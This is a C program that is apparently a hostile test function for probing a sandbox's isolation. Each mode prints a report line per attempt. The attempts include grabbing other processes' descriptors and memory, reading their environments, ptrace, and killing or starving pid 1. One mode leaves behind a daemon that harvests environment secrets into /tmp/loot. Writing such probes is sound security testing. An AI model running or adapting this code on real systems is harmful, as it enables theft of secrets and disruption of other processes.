/*
 * A hostile function (format default): tries to get out of its sandbox
 * and reports what it got, one "name=value" line each.  What it tries is
 * the first word of its input:
 *
 *   steal   every process it can see (the sandbox's init is pid 1): a
 *           pidfd and every descriptor through pidfd_getfd, its
 *           /proc/<pid>/fd entries, mem (read-write), environ, root, cwd,
 *           maps, process_vm_readv, ptrace; then the descriptors it holds
 *           itself beyond 0, 1 and 2
 *   daemon  leaves a process behind that copies the environment of every
 *           process it sees (a later call's headers) to /tmp/loot and
 *           /dev/shm/loot, for as long as it lives
 *   loot    what a daemon left: the loot files, other processes
 *   hog     four processes spin for the number of milliseconds that
 *           follows the word
 *   sleep   sleeps that many milliseconds
 *   renice  lowers pid 1's priority, pins it to one CPU, gives it the
 *           idle I/O class and scheduling policy (all children of pid 1
 *           would inherit them)
 *   slice   gives pid 1 a time slice of its own (sched_setattr), nothing
 *           else changed
 *   batchless  puts itself back under SCHED_OTHER
 *   nice    its own nice value, policy, CPUs, I/O priority, slice and
 *           utilisation clamps, and when pid 1 started
 *   sysctl  writes IPC limits under /proc/sys (they would outlive the call)
 *   core    its core file, realtime priority and nice limits, and
 *           whether it may take SCHED_FIFO
 *   spew    writes that many bytes to stderr
 *
 * Built static, as a test builds it: cc -static -O2 -o escape escape.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static const char *result(long rc)
{
    return rc < 0 ? strerror(errno) : "ok";
}

static void sleep_ms(long ms)
{
    struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };

    nanosleep(&ts, NULL);
}

/* Opens /proc/<pid>/<what> (and reads it); prints pid<N>.<what>=result */
static void try_proc(int pid, const char *what, int flags, int read_it)
{
    char path[64], buf[64], name[16];
    long rc;
    int fd;

    snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
    fd = open(path, flags);
    rc = fd < 0 ? -1 : read_it ? read(fd, buf, sizeof(buf)) : 0;
    snprintf(name, sizeof(name), "%.*s", (int)strcspn(what, "/"), what);
    printf("pid%d.%s=%s\n", pid, name, result(rc));
    if (fd >= 0)
        close(fd);
}

static void steal_from(int pid)
{
    char path[64], buf[64];
    int pidfd, fd, n, got = 0, sockets = 0, procfd = 0;
    struct iovec local = { buf, sizeof(buf) }, remote;
    struct stat st;
    long rc;

    pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    printf("pid%d.pidfd_open=%s\n", pid, result(pidfd));
    if (pidfd >= 0) {
        for (n = 0; n < 1024; n++) {
            fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
            if (fd < 0)
                continue;
            got++;
            if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode))
                sockets++;
            close(fd);
        }
        close(pidfd);
    }
    printf("pid%d.getfd=%d\npid%d.getfd_sockets=%d\n", pid, got, pid,
           sockets);
    for (n = 0; n < 1024; n++) {
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
        fd = open(path, O_RDONLY | O_NONBLOCK);
        if (fd >= 0) {
            procfd++;
            close(fd);
        }
    }
    printf("pid%d.procfd=%d\n", pid, procfd);
    try_proc(pid, "mem", O_RDWR, 0);
    try_proc(pid, "environ", O_RDONLY, 1);
    try_proc(pid, "root/", O_RDONLY | O_DIRECTORY, 0);
    try_proc(pid, "maps", O_RDONLY, 1);
    snprintf(path, sizeof(path), "/proc/%d/cwd", pid);
    rc = readlink(path, buf, sizeof(buf));
    printf("pid%d.cwd=%s\n", pid, result(rc));
    remote.iov_base = (void *)0x400000;
    remote.iov_len = sizeof(buf);
    rc = syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0);
    printf("pid%d.vm_readv=%s\n", pid, result(rc));
    rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
    printf("pid%d.ptrace=%s\n", pid, result(rc));
    if (rc == 0)
        ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void steal(void)
{
    struct dirent *d;
    DIR *proc = opendir("/proc");
    int self = getpid(), fd, held = 0;

    while (proc != NULL && (d = readdir(proc)) != NULL) {
        int pid = atoi(d->d_name);

        if (pid > 0 && pid != self)
            steal_from(pid);
    }
    if (proc != NULL)
        closedir(proc);
    for (fd = 3; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) >= 0)
            held++;
    }
    printf("self.pid=%d\nself.extra_fds=%d\n", self, held);
    /* signals to pid 1 are ignored, whatever they are */
    printf("kill1=%s\n", result(kill(1, SIGKILL)));
}

static void copy_environ(int pid, const char *to)
{
    char path[64], buf[8192];
    ssize_t n;
    int in, out;

    snprintf(path, sizeof(path), "/proc/%d/environ", pid);
    in = open(path, O_RDONLY);
    if (in < 0)
        return;
    n = read(in, buf, sizeof(buf));
    close(in);
    if (n <= 0 || memmem(buf, (size_t)n, "SECRET", 6) == NULL)
        return;
    out = open(to, O_WRONLY | O_CREAT | O_APPEND, 0666);
    if (out >= 0) {
        if (write(out, buf, (size_t)n) < 0)
            n = 0;
        close(out);
    }
}

static void daemon_loop(void)
{
    int self = getpid();

    for (;;) {
        struct dirent *d;
        DIR *proc = opendir("/proc");

        while (proc != NULL && (d = readdir(proc)) != NULL) {
            int pid = atoi(d->d_name);

            if (pid > 1 && pid != self) {
                copy_environ(pid, "/tmp/loot");
                copy_environ(pid, "/dev/shm/loot");
            }
        }
        if (proc != NULL)
            closedir(proc);
        sleep_ms(2);
    }
}

static void loot(void)
{
    static const char *const files[] = { "/tmp/loot", "/dev/shm/loot" };
    struct dirent *d;
    DIR *proc = opendir("/proc");
    int i, others = 0, self = getpid();
    struct stat st;

    for (i = 0; i < 2; i++)
        printf("loot%d=%s\n", i, stat(files[i], &st) == 0 ? "found" : "none");
    while (proc != NULL && (d = readdir(proc)) != NULL) {
        int pid = atoi(d->d_name);

        if (pid > 1 && pid != self)
            others++;
    }
    if (proc != NULL)
        closedir(proc);
    printf("others=%d\n", others);
}

static void hog(long ms)
{
    struct timespec t0, t;
    pid_t kids[4];
    int i;

    for (i = 0; i < 4; i++) {
        kids[i] = fork();
        if (kids[i] == 0) {
            volatile unsigned long x = 0;

            clock_gettime(CLOCK_MONOTONIC, &t0);
            do {
                for (int k = 0; k < 100000; k++)
                    x++;
                clock_gettime(CLOCK_MONOTONIC, &t);
            } while ((t.tv_sec - t0.tv_sec) * 1000
                     + (t.tv_nsec - t0.tv_nsec) / 1000000 < ms);
            _exit(0);
        }
    }
    for (i = 0; i < 4; i++)
        waitpid(kids[i], NULL, 0);
    printf("hogged=%ld\n", ms);
}

static void renice(void)
{
    struct sched_param none = { 0 };
    cpu_set_t one;

    CPU_ZERO(&one);
    CPU_SET(0, &one);
    printf("setpriority=%s\n", result(setpriority(PRIO_PROCESS, 1, 19)));
    printf("setaffinity=%s\n",
           result(sched_setaffinity(1, sizeof(one), &one)));
    printf("ioprio_set=%s\n",
           result(syscall(SYS_ioprio_set, 1, 1, 3 << 13)));
    printf("setscheduler=%s\n",
           result(sched_setscheduler(1, SCHED_IDLE, &none)));
}

/* sched_attr (SCHED_ATTR_SIZE_VER1) */
struct attr {
    unsigned int size, policy;
    unsigned long long flags;
    int nice;
    unsigned int priority;
    unsigned long long runtime, deadline, period;
    unsigned int util_min, util_max;
};

/* when pid 1 started: which sandbox this is */
static void init_start(void)
{
    char buf[1024], *p;
    int fd = open("/proc/1/stat", O_RDONLY), i;
    ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;

    if (fd >= 0)
        close(fd);
    if (n <= 0)
        return;
    buf[n] = '\0';
    p = strrchr(buf, ')');
    for (i = 2; p != NULL && i < 22; i++)
        p = strchr(p + 1, ' ');
    if (p != NULL)
        printf("init_start=%lld\n", atoll(p + 1));
}

/* pid 1's time slice (kernels from 6.12 take one for SCHED_OTHER and
 * SCHED_BATCH), its policy and nice unchanged */
static void slice(void)
{
    struct attr a;

    memset(&a, 0, sizeof(a));
    if (syscall(SYS_sched_getattr, 1, &a, sizeof(a), 0) < 0) {
        printf("slice_set=%s\n", result(-1));
        return;
    }
    a.size = sizeof(a);
    a.flags = 0;
    a.runtime = 3000000;
    printf("slice_set=%s\n",
           result(syscall(SYS_sched_setattr, 1, &a, 0)));
    init_start();
}

static void own_nice(void)
{
    cpu_set_t cpus;

    errno = 0;
    printf("nice=%d\n", getpriority(PRIO_PROCESS, 0));
    printf("policy=%d\n", sched_getscheduler(0));
    if (sched_getaffinity(0, sizeof(cpus), &cpus) == 0)
        printf("cpus=%d\n", CPU_COUNT(&cpus));
    printf("ioprio=%ld\n", syscall(SYS_ioprio_get, 1, 0));
    {
        struct attr a;

        memset(&a, 0, sizeof(a));
        if (syscall(SYS_sched_getattr, 0, &a, sizeof(a), 0) == 0)
            printf("slice=%llu\nutil=%u-%u\n", a.runtime, a.util_min,
                   a.util_max);
    }
    init_start();
}

static void sysctl_write(const char *path)
{
    int fd = open(path, O_WRONLY);
    long rc = fd < 0 ? -1 : write(fd, "1\n", 2);

    printf("%s=%s\n", path, result(rc));
    if (fd >= 0)
        close(fd);
}

int main(void)
{
    char word[32] = "";
    long arg = 0;

    if (scanf("%31s %ld", word, &arg) < 1)
        return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (strcmp(word, "steal") == 0) {
        steal();
    } else if (strcmp(word, "daemon") == 0) {
        pid_t pid = fork();

        if (pid == 0) {
            setsid();
            if (fork() != 0)
                _exit(0);
            close(0);
            close(1);
            close(2);
            daemon_loop();
        }
        waitpid(pid, NULL, 0);
        printf("daemon=started\n");
    } else if (strcmp(word, "loot") == 0) {
        loot();
    } else if (strcmp(word, "hog") == 0) {
        hog(arg);
    } else if (strcmp(word, "renice") == 0) {
        renice();
    } else if (strcmp(word, "nice") == 0) {
        own_nice();
    } else if (strcmp(word, "slice") == 0) {
        slice();
    } else if (strcmp(word, "batchless") == 0) {
        struct sched_param none = { 0 };

        printf("own_policy=%s\n",
               result(sched_setscheduler(0, SCHED_OTHER, &none)));
        init_start();
    } else if (strcmp(word, "sysctl") == 0) {
        sysctl_write("/proc/sys/kernel/shmmni");
        sysctl_write("/proc/sys/kernel/msgmni");
        sysctl_write("/proc/sys/fs/mqueue/msg_max");
    } else if (strcmp(word, "core") == 0) {
        struct rlimit rl;

        getrlimit(RLIMIT_CORE, &rl);
        printf("core_soft=%llu\ncore_hard=%llu\n",
               (unsigned long long)rl.rlim_cur,
               (unsigned long long)rl.rlim_max);
        getrlimit(RLIMIT_RTPRIO, &rl);
        printf("rtprio_hard=%llu\n", (unsigned long long)rl.rlim_max);
        getrlimit(RLIMIT_NICE, &rl);
        printf("nice_hard=%llu\n", (unsigned long long)rl.rlim_max);
        {
            struct sched_param fifo = { 1 };

            printf("fifo=%s\n",
                   result(sched_setscheduler(0, SCHED_FIFO, &fifo)));
        }
    } else if (strcmp(word, "spew") == 0) {
        for (; arg > 0; arg--)
            fputc(arg % 64 == 1 ? '\n' : 'x', stderr);
        printf("spewed\n");
    } else if (strcmp(word, "sleep") == 0) {
        sleep_ms(arg);
        printf("slept=%ld\n", arg);
    } else {
        return 2;
    }
    return 0;
}
